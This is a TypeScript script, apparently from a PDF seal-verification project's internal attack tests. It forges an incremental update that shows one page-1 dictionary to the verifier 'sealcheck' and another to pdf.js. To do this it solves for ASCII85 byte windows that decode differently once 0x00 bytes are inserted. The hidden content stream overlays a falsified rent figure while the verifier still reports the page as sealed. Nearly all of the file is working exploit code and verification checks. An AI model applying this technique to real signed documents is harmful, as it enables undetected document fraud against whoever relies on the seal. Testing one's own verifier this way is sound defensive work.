// a20 (A1's class on the broker's real archive, no original of one's own): an update re-states page 1's dictionary,
// value for value, inside a new object stream whose data is ASCII85. Into a comment of that dictionary the update
// writes bytes that pdf.js, reading the 0x00 bytes inserted around them as base-85 digits (sealcheck skips them as
// white space), decodes as "/Contents <new> 0 R /Resources <<...>>": a later key, which pdf.js takes. The new content
// stream is reached by no reader sealcheck models, so the comparer sees page 1 as sealed.
//   npx tsx scripts/attack-s15/a85-objstm.ts <honest|shifted>      REAL=0 for samples/valid (default: the real archive)
import { readFileSync } from "node:fs";
import { save, show, tool, verify, work } from "../attack36/lib.js";
import { pdfiumAndPdfjs, renderPage1 } from "../attack-s11/lib.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";

const mode = process.argv[2] ?? "shifted";
if (!["honest", "shifted", "framed"].includes(mode)) throw new Error("usage: <honest|shifted|framed>");
// framed: no 0x00, the object stream's data with "<~" put before it (sealcheck skips it; poppler, PDFium and pdf.js
// end the data at its "~"): page 1's object is in no reader's view but sealcheck's.
const REAL = process.env.REAL === "0" ? undefined : "test/fixtures/real/broker-example";
const AT = "2025-12-08T09:35:10Z";
const pdf = new Uint8Array(readFileSync(REAL ? `${REAL}/archive.pdf` : "samples/valid/archive.pdf"));

const P85 = 85 ** 4;
const digits = (v: number): number[] => [4, 3, 2, 1, 0].map((k) => Math.floor(v / 85 ** k) % 85);
const value = (d: readonly number[]): number => d.reduce((t, x) => t * 85 + x, 0);
const be = (v: number): number[] => [(v >>> 24) & 0xff, (v >>> 16) & 0xff, (v >>> 8) & 0xff, v & 0xff];
const word = (b: readonly number[], i: number): number => ((b[i]! << 24) | (b[i + 1]! << 16) | (b[i + 2]! << 8) | b[i + 3]!) >>> 0;
const a85 = (b: readonly number[]): number[] => {
  const out: number[] = [];
  for (let i = 0; i < b.length; i += 4) out.push(...digits(word(b, i)).map((d) => d + 0x21));
  return out;
};
const latin = (s: string): number[] => [...Buffer.from(s, "latin1")];
const eol = (b: readonly number[]) => b.some((x) => x === 10 || x === 13);
let seed = 20;
const rnd = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed / 2 ** 31);

/** As a85-pdfjs.ts: comment bytes that pdf.js, one digit shifted, reads as `want` (between two 4-byte junk chunks). */
function solve(want: number[]): { window: number[]; firstJunk: number[]; lastJunk: number[] } | null {
  const V: number[] = [];
  for (let i = 0; i < want.length; i += 4) V.push(word(want, i));
  const D = V.map(digits);
  const groups: number[][] = [];
  for (let tries = 0; ; tries++) {
    if (tries > 2000) return null;
    const free = [0, 1, 2, 3].map(() => Math.floor(rnd() * 85));
    const g = [...free, D[0]![0]!];
    const v = value(g);
    if (v < 2 ** 32 && !eol(be(v)) && !eol(be((-33 * P85 + value([0, ...free])) >>> 0))) {
      groups.push(g);
      break;
    }
  }
  for (let i = 0; i < D.length; i++) {
    const g = [...D[i]!.slice(1), i + 1 < D.length ? D[i + 1]![0]! : 0];
    if (i + 1 < D.length) {
      const v = value(g);
      if (v >= 2 ** 32 || eol(be(v))) return null;
    } else {
      let ok = false;
      for (let d = 0; d < 85 && !ok; d++) {
        g[4] = d;
        const v = value(g);
        ok = v < 2 ** 32 && !eol(be(v)) && !eol(be((d * P85 - 33 * (85 ** 3 + 85 ** 2 + 85 + 1)) >>> 0));
      }
      if (!ok) return null;
    }
    groups.push(g);
  }
  return {
    window: groups.flatMap((g) => be(value(g))),
    firstJunk: be((-33 * P85 + value([0, ...groups[0]!.slice(0, 4)])) >>> 0),
    lastJunk: be((groups.at(-1)![4]! * P85 - 33 * (85 ** 3 + 85 ** 2 + 85 + 1)) >>> 0),
  };
}

const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
if (!page.ref) throw new Error("page 1 is not an object");
const pageObj = view.object(page.ref);
if (pageObj?.value.kind !== "dict") throw new Error("page 1 is not a dictionary");
const alloc = new NumberAllocator(doc);
const [A, B, C] = [alloc.take(), alloc.take(), alloc.take()];

// Object stream data as sealcheck (and poppler, PDFium) decode it: page 1's dictionary as it is, a comment before ">>".
const header = `${page.ref.num} 0\n`;
const dictText = serialize(pageObj.value);
const open = latin(`${header}${dictText.slice(0, -2)}\n%`);
const prefix = [...open, ...latin(" ".repeat((4 - (open.length % 4)) % 4))];
let solved: ReturnType<typeof solve> = null;
let want: number[] = [];
// White space between the tokens varied (space or tab, one to three) until every comment chunk is valid.
const tokens = `/Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> %`.split(" ");
for (let attempt = 0; attempt < 5000 && !solved; attempt++) {
  const gap = () => Array.from({ length: 1 + Math.floor(rnd() * 3) }, () => (rnd() < 0.5 ? " " : "\t")).join("");
  const text = `\n${gap()}${tokens.join("\u0000").replace(/\u0000/g, () => gap())}`;
  want = latin(text + " ".repeat((4 - (text.length % 4)) % 4));
  solved = solve(want);
}
if (!solved) throw new Error("no window found");
const close = latin("\n>>\n");
const tail = [...close, ...latin(" ".repeat((4 - (close.length % 4)) % 4))];
const S = [...prefix, ...solved.window, ...tail];
const E = a85(S);
const w0 = (prefix.length / 4) * 5;
const w1 = w0 + (solved.window.length / 4) * 5;
const R =
  mode === "shifted"
    ? [...E.slice(0, w0), 0, ...E.slice(w0, w1), 0, 0, 0, 0, ...E.slice(w1), ...latin("~>")]
    : mode === "framed"
      ? [...latin("<~"), ...E, ...latin("~>")]
      : [...E, ...latin("~>")];
console.log(`page 1 (${page.ref.num} 0 R) for sealcheck: ${JSON.stringify(Buffer.from(S).toString("latin1").slice(0, 400))}`);
console.log(
  `page 1 for pdf.js: ${JSON.stringify(
    Buffer.from([...prefix, ...solved.firstJunk, ...want, ...solved.lastJunk, ...tail])
      .toString("latin1")
      .slice(header.length),
  )}`,
);

// The update, written by hand: the object stream (A), the new content (B), an xref stream (C) listing page 1 in A.
const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const last = doc.revisions.at(-1)!;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const offA = at;
push([
  ...latin(`${A} 0 obj\n<< /Type /ObjStm /N 1 /First ${header.length} /Filter /ASCII85Decode /Length ${R.length} >>\nstream\n`),
  ...R,
  ...latin("\nendstream\nendobj\n"),
]);
const offB = at;
push([...latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
const offC = at;
const row = (type: number, f2: number, f3: number) => [type, (f2 >>> 24) & 0xff, (f2 >>> 16) & 0xff, (f2 >>> 8) & 0xff, f2 & 0xff, (f3 >> 8) & 0xff, f3 & 0xff];
const rows = [row(2, A, 0), row(1, offA, 0), row(1, offB, 0), row(1, offC, 0)].flat();
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
push([
  ...latin(
    `${C} 0 obj\n<< /Type /XRef /Size ${C + 1} /W [1 4 2] /Index [${page.ref.num} 1 ${A} 3] /Prev ${last.startxref} ${carried.join(" ")} /Length ${rows.length} >>\nstream\n`,
  ),
  ...rows,
  ...latin(`\nendstream\nendobj\nstartxref\n${offC}\n%%EOF\n`),
]);
const bytes = Uint8Array.from(parts.flat());
const dir = work(`s15-a85-objstm-${REAL ? "real-" : ""}${mode}`);
const file = save(dir, "archive.pdf", bytes);
console.log(`wrote ${file}`);
show(`a85-objstm ${mode}`, REAL ? verify(file, ["--at", AT], "", `${REAL}/trust`) : verify(file));
console.log(`== pdftotext p1: ${JSON.stringify(tool("pdftotext", ["-l", "1", file, "-"]).split("\n").filter(Boolean).slice(0, 2).join(" | "))}`);
console.log(
  `== qpdf --check: ${tool("qpdf", ["--check", file])
    .split("\n")
    .filter((l) => /error|WARNING|No syntax/i.test(l))
    .slice(0, 3)
    .join(" | ")}`,
);
for (const l of pdfiumAndPdfjs(file, 120)) console.log(`== ${l}`);
console.log(`== render: ${renderPage1(file, `${dir}/page1`)}`);
